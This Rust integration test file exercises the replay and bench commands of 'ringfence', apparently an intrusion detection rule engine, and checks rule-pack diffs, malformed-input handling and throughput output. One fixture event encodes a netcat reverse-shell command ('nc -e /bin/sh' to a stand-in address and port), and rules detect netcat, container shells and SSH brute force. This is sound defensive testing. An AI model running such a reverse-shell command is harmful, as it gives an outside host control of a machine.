//! `ringfence replay` and `ringfence bench` from the command line: a pack replayed against
//! itself differs nowhere (exit 0); against a changed pack every differing event is listed
//! with its line, rule and verdicts (exit 1, or 0 within `--allow`); bad lines are reported
//! with their line numbers and skipped, or fatal with `--strict`; a truncated last line is
//! not a crash; `bench` ends with `events/s: N`.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn ringfence(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ringfence"))
        .args(args)
        .output()
        .expect("the binary runs")
}

fn scratch_dir(name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR"))
        .join("replay")
        .join(name);
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn text(output: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

fn expect_code(output: &Output, code: i32) -> (String, String) {
    let (stdout, stderr) = text(output);
    assert_eq!(
        output.status.code(),
        Some(code),
        "stdout: {stdout}\nstderr: {stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
    (stdout, stderr)
}

fn endpoint_pack() -> String {
    root().join("examples/packs/endpoint").display().to_string()
}

/// The bundled pack with two changes: `netcat_exec` disabled, and `shell_in_container`
/// replaced by the bench pack's variant (any executable ending in a shell's name, where
/// the original takes an exact list of paths).
fn changed_pack() -> PathBuf {
    let dir = scratch_dir("changed_pack");
    let source = root().join("examples/packs/endpoint");
    for entry in std::fs::read_dir(&source).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, dir.join(path.file_name().unwrap())).unwrap();
    }
    std::fs::copy(
        root().join("benches/pack50/rules/shell_in_container.o"),
        dir.join("shell_in_container.o"),
    )
    .unwrap();
    let manifest = std::fs::read_to_string(dir.join("pack.json")).unwrap();
    let manifest = manifest.replace(
        r#"{"id": "netcat_exec", "object": "netcat_exec.o", "severity": "high"}"#,
        r#"{"id": "netcat_exec", "object": "netcat_exec.o", "severity": "high", "enabled": false}"#,
    );
    assert!(manifest.contains(r#""enabled": false"#), "{manifest}");
    std::fs::write(dir.join("pack.json"), manifest).unwrap();
    dir
}

/// Generated events with three crafted ones at known lines: 3 (nc -e: only the bundled
/// pack matches), 6 (a shell outside the bundled list in a container: only the changed
/// pack matches), 9 (a shell in the bundled list: both match).
fn events_file(name: &str) -> PathBuf {
    let dir = scratch_dir(name);
    let generated = ringfence(&["generate", "--events", "2000", "--seed", "11"]);
    let (generated, _) = expect_code(&generated, 0);
    let mut lines: Vec<&str> = generated.lines().collect();
    lines.insert(
        2,
        r#"{"type": "process_exec", "pid": 31, "exe": "/usr/bin/nc", "args": ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]}"#,
    );
    lines.insert(
        5,
        r#"{"type": "process_exec", "pid": 32, "exe": "/usr/local/bin/bash", "tty": "pts/0", "container_id": "c0ffee"}"#,
    );
    lines.insert(
        8,
        r#"{"type": "process_exec", "pid": 33, "exe": "/bin/bash", "tty": "pts/0", "container_id": "c0ffee"}"#,
    );
    let path = dir.join("events.jsonl");
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    path
}

#[test]
fn a_pack_against_itself_differs_nowhere() {
    let events = events_file("itself");
    let pack = endpoint_pack();
    let out = ringfence(&[
        "replay",
        &pack,
        "--events",
        &events.display().to_string(),
        "--baseline",
        &pack,
    ]);
    let (stdout, _) = expect_code(&out, 0);
    assert!(stdout.contains("replayed 2003 events"), "{stdout}");
    assert!(
        stdout.contains("0 events differ (within the allowance of 0)"),
        "{stdout}"
    );
    // The table of hits per rule, with the crafted matches.
    assert!(
        stdout
            .lines()
            .any(|l| l.starts_with("netcat_exec ") && l.contains("process_exec")),
        "{stdout}"
    );
    assert!(stdout.contains("hits: "), "{stdout}");
}

#[test]
fn a_changed_pack_lists_every_differing_event() {
    let events = events_file("changed");
    let events = events.display().to_string();
    let changed = changed_pack().display().to_string();
    let baseline = endpoint_pack();
    let args = [
        "replay",
        &changed,
        "--events",
        &events,
        "--baseline",
        &baseline,
    ];
    let (stdout, _) = expect_code(&ringfence(&args), 1);
    assert!(
        stdout.contains(
            "line 3: netcat_exec: match → disabled\n  {\"type\": \"process_exec\", \"pid\": 31,"
        ),
        "{stdout}"
    );
    assert!(
        stdout.contains("line 6: shell_in_container: no match → match\n  {\"type\": \"process_exec\", \"pid\": 32,"),
        "{stdout}"
    );
    assert!(
        !stdout.contains("line 9:"),
        "both packs match line 9: {stdout}"
    );
    assert!(
        stdout.contains("2 events differ (over the allowance of 0)"),
        "{stdout}"
    );
    // The per-rule summary: one event gained, one lost.
    let row = |rule: &str| {
        stdout
            .lines()
            .rfind(|l| l.starts_with(&format!("{rule} ")))
            .unwrap_or_default()
            .split_whitespace()
            .map(str::to_string)
            .collect::<Vec<_>>()
    };
    assert_eq!(row("shell_in_container")[3..5], ["1", "0"], "{stdout}");
    assert_eq!(row("netcat_exec")[3..5], ["0", "1"], "{stdout}");
    assert_eq!(row("netcat_exec").last().unwrap(), "(disabled)", "{stdout}");

    let mut allowed = args.to_vec();
    allowed.extend(["--allow", "2"]);
    let (stdout, _) = expect_code(&ringfence(&allowed), 0);
    assert!(
        stdout.contains("2 events differ (within the allowance of 2)"),
        "{stdout}"
    );
    let mut short = args.to_vec();
    short.extend(["--allow", "1"]);
    expect_code(&ringfence(&short), 1);
}

#[test]
fn bad_lines_are_skipped_with_their_numbers_or_fatal_with_strict() {
    let dir = scratch_dir("bad_lines");
    let good = r#"{"type": "process_exec", "pid": 1, "exe": "/bin/true"}"#;
    let text = format!(
        "{good}\n{good}\n{{\"type\": \"process_exec\", \"pid\": \n{good}\n{{\"type\": \"nope\"}}\n{good}\n{}",
        &good[..25]
    );
    let path = dir.join("bad.jsonl");
    std::fs::write(&path, text).unwrap();
    let path = path.display().to_string();
    let pack = endpoint_pack();

    let (stdout, stderr) = expect_code(&ringfence(&["replay", &pack, "--events", &path]), 0);
    assert!(stdout.contains("replayed 4 events"), "{stdout}");
    assert!(stdout.contains("3 bad lines skipped"), "{stdout}");
    assert!(stderr.contains("bad.jsonl:line 3: column"), "{stderr}");
    assert!(
        stderr.contains("bad.jsonl:line 5: unknown event type `nope`"),
        "{stderr}"
    );
    assert!(
        stderr.contains("bad.jsonl:line 7: the last line is cut off (25 bytes"),
        "{stderr}"
    );

    let (_, stderr) = expect_code(
        &ringfence(&["replay", &pack, "--events", &path, "--strict"]),
        2,
    );
    assert!(stderr.contains("line 3: column"), "{stderr}");
    assert!(
        stderr.contains("(without --strict, bad lines are reported and skipped)"),
        "{stderr}"
    );

    // bench skips them too.
    let out = ringfence(&[
        "bench",
        &pack,
        "--events",
        &path,
        "--seconds",
        "0",
        "--threads",
        "2",
    ]);
    let (stdout, stderr) = expect_code(&out, 0);
    assert!(stderr.contains("3 bad lines skipped"), "{stderr}");
    assert!(stdout.contains("events: 4 "), "{stdout}");
}

#[test]
fn the_progress_bar_is_drawn_on_request_and_erased() {
    let events = events_file("progress");
    let events = events.display().to_string();
    let pack = endpoint_pack();
    let args = ["replay", &pack, "--events", &events, "--progress", "always"];
    let (stdout, stderr) = expect_code(&ringfence(&args), 0);
    assert!(stderr.starts_with("\r["), "{stderr:?}");
    assert!(stderr.contains("% 1024 events, "), "{stderr:?}");
    assert!(stderr.contains(" events/s, ETA "), "{stderr:?}");
    assert!(
        stderr.ends_with("\r\x1b[K"),
        "the bar is erased at the end: {stderr:?}"
    );
    assert!(!stdout.contains('\r'), "the report has no bar: {stdout}");
    // Not a terminal (stderr is a pipe here): no bar by default, a line every 10 s at most.
    let (_, stderr) = expect_code(&ringfence(&args[..4]), 0);
    assert_eq!(stderr, "");
}

#[test]
fn a_missing_pack_or_log_is_exit_2_and_a_broken_pack_exit_1() {
    let sample = root().join("examples/events/synthetic_1k.jsonl");
    let sample = sample.display().to_string();
    let (_, stderr) = expect_code(
        &ringfence(&["replay", "no/such/pack", "--events", &sample]),
        2,
    );
    assert!(
        stderr.contains("no/such/pack: no pack.json here"),
        "{stderr}"
    );
    let (_, stderr) = expect_code(
        &ringfence(&["replay", &endpoint_pack(), "--events", "no/such.jsonl"]),
        2,
    );
    assert!(stderr.contains("cannot read no/such.jsonl"), "{stderr}");
    let broken = scratch_dir("broken_pack");
    std::fs::write(
        broken.join("pack.json"),
        r#"{"name": "b", "version": 1, "schema_versions": {"process_exec": 1}, "rules": [{"id": "x", "object": "x.o"}]}"#,
    )
    .unwrap();
    let (_, stderr) = expect_code(
        &ringfence(&["replay", &broken.display().to_string(), "--events", &sample]),
        1,
    );
    assert!(stderr.contains("refused"), "{stderr}");
}

#[test]
fn bench_reports_rules_and_ends_with_events_per_second() {
    let sample = root().join("examples/events/synthetic_1k.jsonl");
    let out = ringfence(&[
        "bench",
        &root().join("benches/pack50").display().to_string(),
        "--events",
        &sample.display().to_string(),
        "--seconds",
        "0.2",
    ]);
    let (stdout, _) = expect_code(&out, 0);
    let last = stdout.lines().last().unwrap_or_default();
    let n = last
        .strip_prefix("events/s: ")
        .unwrap_or_else(|| panic!("{stdout}"));
    assert!(n.parse::<u64>().is_ok_and(|n| n > 0), "{stdout}");
    assert!(
        stdout.contains("pack bench50 1.0.0: 50 rules, loaded in "),
        "{stdout}"
    );
    assert!(stdout.contains("events/s per core: "), "{stdout}");
    assert!(
        stdout.contains("worst case per event: process_exec "),
        "{stdout}"
    );
    assert!(
        stdout
            .lines()
            .any(|l| l.starts_with("brute_force_ssh ") && l.ends_with(" 63")),
        "the rule table with the verifier's worst case: {stdout}"
    );
}

/// The hits column is one pass over the file, however many passes are timed: three failed
/// ssh logins from one address are no burst (the stateful rule fires on the fifth), though
/// the timed passes that follow keep counting them in its map.
#[test]
fn bench_counts_the_hits_of_one_pass() {
    let dir = std::env::temp_dir().join(format!("ringfence-bench-hits-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let attempt = r#"{"type":"auth_attempt","pid":7,"exe":"/usr/sbin/sshd","service":"sshd","saddr":"203.0.113.9","success":false}"#;
    for (failures, hits) in [(3, 0), (5, 1)] {
        let events = dir.join(format!("failures_{failures}.jsonl"));
        std::fs::write(&events, format!("{attempt}\n").repeat(failures)).unwrap();
        let out = ringfence(&[
            "bench",
            &root().join("benches/pack50").display().to_string(),
            "--events",
            &events.display().to_string(),
            "--seconds",
            "0.05",
        ]);
        let (stdout, _) = expect_code(&out, 0);
        let row: Vec<&str> = stdout
            .lines()
            .find(|l| l.starts_with("brute_force_ssh "))
            .unwrap_or_else(|| panic!("{stdout}"))
            .split_whitespace()
            .collect();
        // rule, event, evaluations, hits/pass, mean ns, worst insns
        assert_eq!(row[3], hits.to_string(), "{failures} failures: {stdout}");
        let evaluations: u64 = row[2].parse().unwrap();
        assert!(
            evaluations > 2 * failures as u64,
            "several passes ran: {stdout}"
        );
    }
    std::fs::remove_dir_all(&dir).ok();
}

/// Step 6 of README's rule author's loop: the fixed rule replayed against its first version
/// over generated events, exactly as README shows it (and the packs hold the loop's objects).
#[test]
fn the_author_loop_replay_step_of_readme() {
    let loop_dir = root().join("examples/loop");
    for (pack, object) in [("v1", "shell_from_cron_v1.o"), ("v2", "shell_from_cron.o")] {
        let copy = std::fs::read(loop_dir.join("packs").join(pack).join("shell_from_cron.o"));
        assert!(
            copy.unwrap() == std::fs::read(loop_dir.join(object)).unwrap(),
            "examples/loop/packs/{pack}/shell_from_cron.o is stale: copy examples/loop/{object} there"
        );
    }
    let dir = scratch_dir("loop");
    let generated = ringfence(&["generate", "--events", "20000", "--seed", "1"]);
    let (generated, _) = expect_code(&generated, 0);
    let events = dir.join("events.jsonl");
    std::fs::write(&events, generated).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_ringfence"))
        .current_dir(root())
        .args([
            "replay",
            "examples/loop/packs/v2",
            "--events",
            &events.display().to_string(),
            "--baseline",
            "examples/loop/packs/v1",
            "--show",
            "2",
        ])
        .output()
        .unwrap();
    let (stdout, _) = expect_code(&out, 1);
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    for expected in [
        "line 634: shell_from_cron: no match → match",
        r#""exe":"/usr/bin/bash","args":["/bin/bash","-c","/usr/local/bin/backup-db.sh"]"#,
        "shell_from_cron           0         53             53              0",
        "53 events differ (over the allowance of 0)",
    ] {
        assert!(stdout.contains(expected), "`{expected}` not in\n{stdout}");
        assert!(
            readme.contains(expected),
            "README's step 6 no longer shows `{expected}`"
        );
    }
    let allowed = Command::new(env!("CARGO_BIN_EXE_ringfence"))
        .current_dir(root())
        .args([
            "replay",
            "examples/loop/packs/v2",
            "--events",
            &events.display().to_string(),
            "--baseline",
            "examples/loop/packs/v1",
            "--allow",
            "53",
        ])
        .output()
        .unwrap();
    expect_code(&allowed, 0);
}
